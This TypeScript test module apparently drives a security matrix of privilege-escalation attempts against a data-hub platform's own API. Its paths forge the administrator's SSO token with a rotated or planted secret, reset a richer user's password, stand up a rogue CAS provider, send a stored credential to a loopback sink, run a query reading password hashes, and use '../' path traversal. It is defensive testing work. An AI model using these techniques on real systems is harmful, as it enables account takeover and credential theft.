import { createHmac, randomBytes } from 'node:crypto'
import * as roles from '../../../src/shared/contract/platform/admin/roles'
import * as users from '../../../src/shared/contract/platform/admin/users'
import { identityProviderCreate } from '../../../src/shared/contract/platform/identityProviders'
import { sysAuthUpdateSecret } from '../../../src/shared/contract/platform/messaging/sysAuthentication'
import { ssoLogin, ssoTokenLogin } from '../../../src/shared/contract/platform/sso'
import { changePassword, login } from '../../../src/shared/contract/platform/session'
import { promotionApply } from '../../../src/shared/contract/promotion/endpoints'
import { PROMOTION_FORMAT_VERSION } from '../../../src/shared/contract/promotion/document'
import { allPermissionCodes } from '../../../src/hub/store/seed/roles'
import { existsSync } from 'node:fs'
import { join } from 'node:path'
import * as consumer from '../../../src/shared/contract/datahub/consumer'
import * as producer from '../../../src/shared/contract/datahub/producer'
import { producerServerApi } from '../../../src/shared/contract/datahub/runtime'
import { topicCreate } from '../../../src/shared/contract/datahub/topic'
import { datasourceCreate } from '../../../src/shared/contract/datahub/dataSources'
import { producerPreviewSqlData } from '../../../src/shared/contract/datahub/sqlTools'
import { widgetPreview } from '../../../src/shared/contract/dashboards/widgets'
import type { DeliveryWorker } from '../../../src/hub/runtime/queue/worker'
import type { CallBench } from '../../support/bench'
import type { Sink } from '../../integration/runtime/support'
import type { CasServer } from '../../support/casServer'
import type { Answer } from '../../support/hub'

/**
 * The escalation paths of the matrix (issue 31): each is what an attacker holding some codes
 * tries, with its own token, to reach more than it holds. A path does not judge: it tries, and
 * hands in every session it obtained (a forged sign-in, a reset password used). The matrix then
 * asks what those sessions, and the attacker's own account, hold.
 *
 * A new path that can give a caller more than it holds is added here; the matrix runs it for a
 * holder of every permission code of the contract.
 */
export interface Attacker {
  id: string
  username: string
  token: string
  roleId: string
  codes: readonly string[]
}

/** What the matrix set up once per store, as the administrator. */
export interface Fixtures {
  adminRoleId: string
  /** The administrator's email: an application token or a provider matching by email names it. */
  adminEmail: string
  /** A user richer than any single code: platform:role, platform:user and more. */
  victim: { id: string; username: string }
  /** A system authentication (application `appCode`) with an app provider matching by email; `appsso` is on. */
  sysAuthId: string
  appCode: string
  cas: CasServer
  /** An HTTP server on loopback that the attacker's consumers may point at. */
  sink: Sink
  /** The hub's delivery worker, ticked by the paths that push. */
  worker: DeliveryWorker
  /** An API authentication of application `app` (not the attacker's to use), and its secret. */
  credential: { id: string; app: string; secret: string }
  /** A folder outside the hub's data directory that no consumer may write into. */
  outside: string
  /**
   * On a PostgreSQL hub: the hub's own database, and a data source an administrator pointed at
   * it (its name; refused at creation is as good). null on SQLite (sqliteSourceLocation.test.ts).
   */
  ownStore: { database: string; source: string } | null
}

export interface PathContext {
  bench: CallBench
  fixtures: Fixtures
  attacker: Attacker
  /** Hands in a session the path obtained: the matrix asks what it holds. */
  obtained(token: string): void
  /** Says the path reached something that is no permission code (a secret, a file, an address). */
  reached(what: string): void
}

export interface EscalationPath {
  name: string
  /** Sets of codes beyond single ones that this path needs together (the matrix adds them as holders). */
  holders?: readonly (readonly string[])[]
  attempt(ctx: PathContext): Promise<void>
}

const ok = (a: Answer) => a.body.code === '2000'
const tokenOf = (a: Answer): string | null => (ok(a) ? ((a.body.data as { token?: string }).token ?? null) : null)
const sign = (secret: string, uid: string, timestamp: string) => createHmac('sha256', secret).update(`${uid}\n${timestamp}`).digest('hex')
const fresh = () => randomBytes(4).toString('hex')

/** Signs in with a password somebody else chose: the first sign-in changes it, as a person would. */
async function signInChosen(bench: CallBench, username: string, password: string): Promise<string | null> {
  const first = await bench.send(login, { username, password }, { token: null })
  const token = tokenOf(first)
  if (!token) return null
  if (!(first.body.data as { mustChangePassword?: boolean }).mustChangePassword) return token
  const next = 'Mine#Pass' + fresh()
  if (!ok(await bench.send(changePassword, { oldPassword: password, newPassword: next, confirmPassword: next }, { token }))) return null
  return tokenOf(await bench.send(login, { username, password: next }, { token: null }))
}

async function forgeAppToken(ctx: PathContext, secret: string): Promise<void> {
  const timestamp = String(Date.now())
  const uid = ctx.fixtures.adminEmail
  const token = tokenOf(await ctx.bench.send(ssoTokenLogin, { uid, timestamp, token: sign(secret, uid, timestamp) }, { token: null }))
  if (token) ctx.obtained(token)
}

/**
 * As the attacker: a topic with a running serverApi producer and one running consumer made of
 * `settings`, then one anonymous push of `data`, delivered. False when the attacker may not.
 */
async function pushThrough(ctx: PathContext, settings: Record<string, unknown>, data: unknown): Promise<boolean> {
  const { bench, attacker } = ctx
  const as = { token: attacker.token }
  const code = `mx.${fresh()}`
  if (!ok(await bench.send(topicCreate, { code, name: 'matrix' }, as))) return false
  const made = await bench.send<{ id: string }>(consumer.consumerCreate, { topicCode: code, ...settings }, as)
  if (!ok(made) || !ok(await bench.send(consumer.consumerStatus, { id: made.body.data!.id }, as))) return false
  const source = await bench.send<{ id: string }>(producer.producerCreate, { topicCode: code, appCode: 'crm', productionMode: 'serverApi', apiRequestInfoModel: { apiAddr: '/producer/serverApi' } }, as)
  if (!ok(source) || !ok(await bench.send(producer.producerDisableOrEnable, { id: source.body.data!.id }, as))) return false
  if (!ok(await bench.send(producerServerApi, { topicCode: code, data }, { token: null }))) return false
  // Two ticks: the delivery is claimed and tried; a retry would wait far longer than this path.
  await ctx.fixtures.worker.tick()
  await ctx.fixtures.worker.tick()
  return true
}

export const escalationPaths: readonly EscalationPath[] = [
  {
    name: 'roles: the administrator role or every code into its own account',
    async attempt({ bench, fixtures, attacker }) {
      const as = { token: attacker.token }
      await bench.send(roles.roleSaveRoleUser, { roleId: fixtures.adminRoleId, userIds: [attacker.id] }, as)
      await bench.send(users.userSetRoles, { userId: attacker.id, roleIds: [fixtures.adminRoleId] }, as)
      await bench.send(roles.roleResAuthSave, { roleId: attacker.roleId, permissions: allPermissionCodes() }, as)
      await bench.send(users.employeeSetSysOrButler, { id: attacker.id, kind: 'sys', value: '1' }, as)
    },
  },
  {
    name: 'user management: reset a richer user\'s password and sign in as them',
    async attempt(ctx) {
      const password = 'Taken#Pass' + fresh()
      const reset = await ctx.bench.send(users.employeeResetPassword, { id: ctx.fixtures.victim.id, password }, { token: ctx.attacker.token })
      if (!ok(reset)) return
      const token = await signInChosen(ctx.bench, ctx.fixtures.victim.username, password)
      if (token) ctx.obtained(token)
    },
  },
  {
    name: 'system authentication: a new secret forges the administrator\'s application sign-in',
    async attempt(ctx) {
      const answer = await ctx.bench.send<{ secret: string }>(sysAuthUpdateSecret, { id: ctx.fixtures.sysAuthId }, { token: ctx.attacker.token })
      if (ok(answer)) await forgeAppToken(ctx, answer.body.data!.secret)
    },
  },
  {
    name: 'promotion: the system authentication\'s secret of its choosing and appsso on, then a forged sign-in',
    async attempt(ctx) {
      const secret = 'chosen-' + fresh()
      const document = {
        formatVersion: PROMOTION_FORMAT_VERSION,
        systemAuthentications: [{ appCode: ctx.fixtures.appCode, name: 'planted', tokenType: '1', tokenValidity: 0, status: '1', remark: '', secret: { $secret: 'planted' } }],
        parameters: [{ parameterKey: 'appsso', parameterName: '应用单点登录', parameterValue: '1', appCode: 'common' }],
      }
      const applied = await ctx.bench.send(promotionApply, { document, values: { planted: secret } }, { token: ctx.attacker.token })
      if (ok(applied)) await forgeAppToken(ctx, secret)
    },
  },
  {
    name: 'identity provider: a CAS server of its own gives the administrator role or signs in the administrator',
    holders: [['platform:identityProvider', 'platform:role'], ['platform:identityProvider', 'platform:user']],
    async attempt(ctx) {
      const { bench, fixtures, attacker } = ctx
      const service = `http://127.0.0.1/cb-${fresh()}`
      const provider = (extra: Record<string, unknown>) =>
        bench.send(identityProviderCreate, { kind: 'cas', name: `own ${fresh()}`, serverUrl: fixtures.cas.url, redirectUris: [service], matchBy: 'username', claim: '', ...extra }, { token: attacker.token })
      const granting = await provider({ autoCreate: '1', roles: ['admin'] })
      if (!ok(granting) && !ok(await provider({ autoCreate: '1', roles: [] }))) return
      for (const user of ['admin', `newcomer${fresh()}`]) {
        const token = tokenOf(await bench.send(ssoLogin, { ticket: fixtures.cas.issue(user, service), service, validateUrl: fixtures.cas.url }, { token: null }))
        if (token) ctx.obtained(token)
      }
    },
  },
  {
    name: 'consumer: a stored API credential sent to a server of its own',
    async attempt(ctx) {
      const { credential, sink } = ctx.fixtures
      const path = `/leak-${ctx.attacker.id}`
      // The consumer names the credential's own application: the worst case for the rule.
      const settings = { applicationCode: credential.app, dataConsumeType: 'http', httpRequestInfoModel: { requestUri: `${sink.url}${path}`, requestMethod: 'POST', authenStatus: '1', authenId: credential.id } }
      if (!(await pushThrough(ctx, settings, { n: 1 }))) return
      if (sink.at(path).some((r) => JSON.stringify(r.headers).includes(credential.secret))) ctx.reached(`the credential of ${credential.app} arrived at its own server`)
    },
  },
  {
    name: 'data source on the hub\'s own database: the password hashes through a preview or a widget',
    holders: [['datahub:datasource', 'datahub:topic']],
    async attempt(ctx) {
      const { bench, fixtures, attacker } = ctx
      if (!fixtures.ownStore) return
      const as = { token: attacker.token }
      const own = `self${fresh()}`
      // localhost, not the 127.0.0.1 of the hub's own URL: the same server by another name.
      await bench.send(datasourceCreate, { name: own, sourceType: '1', applicationCode: 'erp', dbType: 'postgresql', host: 'localhost', port: '5432', username: 'postgres', databaseName: fixtures.ownStore.database }, as)
      const query = 'select username, password_hash from users'
      for (const datasourceName of [own, fixtures.ownStore.source]) {
        const preview = await bench.send(producerPreviewSqlData, { datasourceName, querySql: query, dataNum: 10 }, as)
        if (ok(preview) && JSON.stringify(preview.body.data).includes('$argon2')) ctx.reached(`a SQL preview through ${datasourceName} read the password hashes`)
        const widget = await bench.send(widgetPreview, { title: 'w', chartType: 'table', dataType: 'sql', dataSource: datasourceName, content: query }, as)
        if (ok(widget) && JSON.stringify(widget.body.data).includes('$argon2')) ctx.reached(`a widget preview through ${datasourceName} read the password hashes`)
      }
    },
  },
  {
    name: 'file consumer: a folder outside the hub\'s data directory',
    async attempt(ctx) {
      const absolute = join(ctx.fixtures.outside, `${ctx.attacker.id}-absolute`)
      const climbing = join(ctx.fixtures.outside, `${ctx.attacker.id}-climbing`)
      for (const [dir, fileDir] of [[absolute, absolute], [climbing, `${'../'.repeat(16)}${climbing.slice(1)}`]] as const) {
        await pushThrough(ctx, { applicationCode: 'erp', dataConsumeType: 'file', fileRequestInfoModel: { fileDir, fileNameRule: '2', fileNamePrefix: 'x_' } }, { n: 1 })
        if (existsSync(dir)) ctx.reached(`a file consumer wrote into ${dir} (fileDir ${fileDir})`)
      }
    },
  },
]
